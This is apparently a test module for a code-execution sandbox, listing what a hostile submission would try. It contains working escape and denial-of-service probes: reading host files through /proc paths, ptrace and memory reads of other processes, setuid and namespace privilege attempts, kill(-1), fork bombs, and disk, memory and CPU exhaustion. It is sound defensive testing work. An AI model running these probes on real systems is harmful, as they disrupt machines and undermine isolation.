"""What a hostile submission would try. Each function runs in a sandboxed process and tells what it got to `out`.

Only the standard library and numpy are imported, once, by the warm server that loads this module.
"""

import contextlib
import ctypes
import json
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)


def run(arguments, descriptors):
    """Entry point: call the attack that is named, tell the outcome as JSON."""
    function = globals()[arguments["attack"]]
    outcome = function(**arguments["options"])
    with os.fdopen(descriptors["out"], "w") as out:
        json.dump(outcome, out)


def attempt(function, *arguments):
    """Call it; return the kind of error, or "done"."""
    try:
        function(*arguments)
        return "done"
    except Exception as error:
        return f"{type(error).__name__}: {error}"


def connect(family, kind, address):
    with socket.socket(family, kind) as probe:
        probe.settimeout(5)
        probe.connect(address)
        if kind == socket.SOCK_DGRAM:
            probe.send(b"stolen")


def reach_out(port, paths, abstract):
    """Connect to servers that really listen, over every kind of socket."""
    outcome = {
        "tcp": attempt(connect, socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port)),
        "udp": attempt(connect, socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", port)),
        "outside": attempt(connect, socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", port)),
        "tcp6": attempt(connect, socket.AF_INET6, socket.SOCK_STREAM, ("::1", port)),
        "abstract": attempt(connect, socket.AF_UNIX, socket.SOCK_STREAM, "\0" + abstract),
        # 40 is AF_VSOCK: it leads from a virtual machine to its host, whatever the network namespace says.
        "vsock": attempt(lambda: socket.socket(40, socket.SOCK_STREAM).close()),
        "packet": attempt(lambda: socket.socket(17, socket.SOCK_RAW).close()),
        "name": attempt(socket.getaddrinfo, "example.org", 80),
    }
    for number, path in enumerate(paths):
        outcome[f"unix {number}"] = attempt(connect, socket.AF_UNIX, socket.SOCK_STREAM, path)
        outcome[f"datagram {number}"] = attempt(connect, socket.AF_UNIX, socket.SOCK_DGRAM, path)
    return outcome


def read_files(paths, launcher):
    """Read files by every name that could lead to them."""
    found = {}
    for path in paths:
        for name in (
            path,
            f"/proc/1/root{path}",
            f"/proc/self/root{path}",
            f"/proc/{launcher}/root{path}",
            f"/proc/self/cwd/../../../../../../..{path}",
            f"/old{path}",
            f"/tmp/old{path}",
        ):
            with contextlib.suppress(OSError):
                found[name] = Path(name).read_text()[:100]
        with contextlib.suppress(OSError):
            os.link(path, "linked")
            found["hard link"] = Path("linked").read_text()[:100]
    return found


def change_files(path, place):
    """Try every way of changing a file outside that does not need it to be opened, and those that do."""
    outside = Path(path)
    return {
        "write": attempt(outside.write_text, "forged"),
        "append": attempt(lambda: outside.open("a").write("forged")),
        "truncate": attempt(os.truncate, path, 0),
        "remove": attempt(os.unlink, path),
        "rename": attempt(os.rename, path, path + "2"),
        "replace": attempt(lambda: (Path("mine").write_text("forged"), os.replace("mine", path))),
        "link over": attempt(os.symlink, path, place + "/linked"),
        "new": attempt(Path(place, "new").write_text, "forged"),
        "folder": attempt(os.mkdir, place + "/newfolder"),
        # These may say that they are done; the test looks at the file.
        "mode": attempt(os.chmod, path, 0o777),
        "owner": attempt(os.chown, path, os.getuid(), os.getgid()),
        "time": attempt(os.utime, path, (0, 0)),
        "attribute": attempt(os.setxattr, path, "user.mark", b"forged"),
    }


def write_system():
    """Write where the interpreter, the libraries and the system are."""
    places = [os.path.dirname(os.__file__), os.path.dirname(np.__file__), sys.prefix, "/usr", "/etc", "/", "/dev"]
    places += ["/proc/sys/kernel/hostname", "/work"]
    return {place: attempt(Path(place, "forged").write_text, "x") for place in places}


def reach_processes(victim, launcher):
    """Signal, trace and read another process of the same user."""

    def trace(request):
        if libc.ptrace(request, victim, 0, 0) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

    def read_memory():
        buffer = ctypes.create_string_buffer(8)
        local, remote = struct.pack("PN", ctypes.addressof(buffer), 8), struct.pack("PN", 0x400000, 8)
        if libc.process_vm_readv(victim, local, 1, remote, 1, 0) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

    return {
        "attach": attempt(trace, 16),
        "seize": attempt(trace, 0x4206),
        "read memory": attempt(read_memory),
        "limits": attempt(resource.prlimit, victim, resource.RLIMIT_CPU, (1, 1)),
        "environment": attempt(Path(f"/proc/{victim}/environ").read_bytes),
        "memory file": attempt(lambda: open(f"/proc/{victim}/mem", "rb").close()),
        "descriptors": attempt(os.listdir, f"/proc/{victim}/fd"),
        "launcher's memory": attempt(lambda: open(f"/proc/{launcher}/mem", "rb").close()),
        "stop": attempt(os.kill, victim, signal.SIGSTOP),
        "kill": attempt(os.kill, victim, signal.SIGKILL),
        "kill group": attempt(os.killpg, victim, signal.SIGKILL),
        "kill launcher": attempt(os.kill, launcher, signal.SIGKILL),
        "pidfd": attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(victim), signal.SIGKILL)),
    }


def kill_all():
    """A signal to everybody: only the own tree may feel it."""
    with contextlib.suppress(ProcessLookupError):
        os.kill(-1, signal.SIGKILL)
    return "alive"


def processes():
    try:
        return sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
    except PermissionError:
        return "not to be listed"


def look_at_itself():
    status = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    return {
        "environment": dict(os.environ),
        "first environment": Path("/proc/self/environ").read_text(errors="replace").split("\0"),
        "descriptors": sorted(map(int, os.listdir("/proc/self/fd"))),
        "folder": os.getcwd(),
        "files": sorted(os.listdir(".")),
        "uid": os.getuid(),
        "groups": os.getgroups(),
        "no new privileges": status["NoNewPrivs"].strip(),
        "seccomp": status["Seccomp"].strip(),
        "capabilities": {name: status[name].strip() for name in ("CapEff", "CapPrm", "CapInh", "CapBnd", "CapAmb")},
        "processes": processes(),
        "input": attempt(input),
        "home": os.listdir(os.environ["HOME"]),
        "shared memory": attempt(lambda: __import__("multiprocessing").Lock()),
    }


def gain_privileges():
    def system_call(name, *arguments):
        def call():
            if getattr(libc, name)(*arguments) < 0:
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))

        return call

    outcome = {
        "setuid": attempt(os.setuid, 0),
        "setgroups": attempt(os.setgroups, [0]),
        "user namespace": attempt(system_call("unshare", 0x10000000)),
        "mount namespace": attempt(system_call("unshare", 0x20000)),
        "mount": attempt(system_call("mount", b"tmpfs", b"/tmp", b"tmpfs", 0, None)),
        "remount": attempt(system_call("mount", None, b"/usr", None, 0x1020, None)),
        "unmount": attempt(system_call("umount2", b"/usr", 2)),
        "chroot": attempt(os.chroot, "/tmp"),
        "host name": attempt(socket.sethostname, "mine"),
        "device": attempt(os.mknod, "disk", 0o60666, os.makedev(8, 0)),
        "keyring": attempt(system_call("syscall", 250, 0, -3)) if os.uname().machine == "x86_64" else "PermissionError",
        "priority": attempt(os.nice, -5),
        "raise limits": attempt(
            lambda: resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        ),
    }
    done = subprocess.run(["unshare", "--user", "--map-root-user", "id"], capture_output=True, text=True, check=False)
    outcome["unshare command"] = "done" if done.returncode == 0 else done.stderr
    return outcome


def fork_bomb():
    """Fork and start threads until refused; return how many there were."""
    n_forked = 0
    while n_forked < 2000:
        try:
            if os.fork() == 0:
                time.sleep(600)
                os._exit(0)
        except OSError:
            break
        n_forked += 1
    return n_forked


def thread_bomb():
    n_started, stop = 0, threading.Event()
    while n_started < 2000:
        try:
            threading.Thread(target=stop.wait, daemon=True).start()
        except RuntimeError:
            break
        n_started += 1
    return n_started


def ask_for_too_much(gigabytes):
    return attempt(np.ones, int(gigabytes * 1e9 / 8))


def grow():
    """Grow a list until refused."""
    kept = []
    try:
        while True:
            kept.append(bytes(10_000_000))
    except MemoryError:
        return len(kept) * 10


def grow_in_children(n_children, megabytes):
    """Each child stays within what one process may have; together they do not."""
    for _ in range(n_children):
        if os.fork() == 0:
            block = np.ones(megabytes * 125_000)
            time.sleep(600)
            os._exit(int(block[0]))
    time.sleep(600)


def grow_beside():
    """Kinds of memory that no address space shows."""
    return {
        "memory file": attempt(os.memfd_create, "hidden"),
        "System V": "done" if libc.shmget(0, 1 << 20, 0o1600) >= 0 else "OSError",
        "queue": "done" if libc.msgget(0, 0o1600) >= 0 else "OSError",
    }


def burn():
    while True:
        pass


def burn_defiantly():
    for number in (signal.SIGXCPU, signal.SIGTERM, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    burn()


def burn_in_children():
    """Each child uses little, one after the other."""
    while True:
        if (child := os.fork()) == 0:
            start = time.process_time()
            while time.process_time() - start < 0.2:
                pass
            os._exit(0)
        os.waitpid(child, 0)


def fill_disk(file_megabytes, n_files):
    """Write files of this size until refused; return megabytes written and the error."""
    written, reason = 0, "done"
    block = b"x" * 1_000_000
    for number in range(n_files):
        try:
            with open(f"file{number}", "wb") as file:
                for _ in range(file_megabytes):
                    file.write(block)
                    written += 1
        except OSError as error:
            reason = os.strerror(error.errno)
            break
    return {"megabytes": written, "reason": reason}


def fill_inodes(n_files):
    for number in range(n_files):
        try:
            open(f"empty{number}", "w").close()
        except OSError as error:
            return {"files": number, "reason": os.strerror(error.errno)}
    return {"files": n_files, "reason": "done"}


def leave_behind():
    """Start processes that leave the family in every way known; they hold `out` open as long as they live."""
    keep = [number for number in map(int, os.listdir("/proc/self/fd")) if number > 2]
    for number in keep:
        with contextlib.suppress(OSError):
            os.set_inheritable(number, True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            time.sleep(3600)
        os._exit(0)
    subprocess.Popen("sleep 3600 & sleep 3600 &", shell=True, close_fds=False)
    return "left"


def leave_behind_and_stay():
    leave_behind()
    time.sleep(3600)


def relay_and_stay():
    """Each process starts the next and ends: whoever looks for them one after the other always comes too late."""
    for number in map(int, os.listdir("/proc/self/fd")):
        if number > 2:
            with contextlib.suppress(OSError):
                os.set_inheritable(number, True)
    if os.fork() == 0:
        with contextlib.suppress(OSError):
            os.setpgid(0, 0)
        while True:
            if os.fork():
                os._exit(0)
    time.sleep(3600)


def die(number):
    os.kill(os.getpid(), number)
    time.sleep(600)


def crash():
    ctypes.string_at(0)


def exit_with(status):
    os._exit(status)
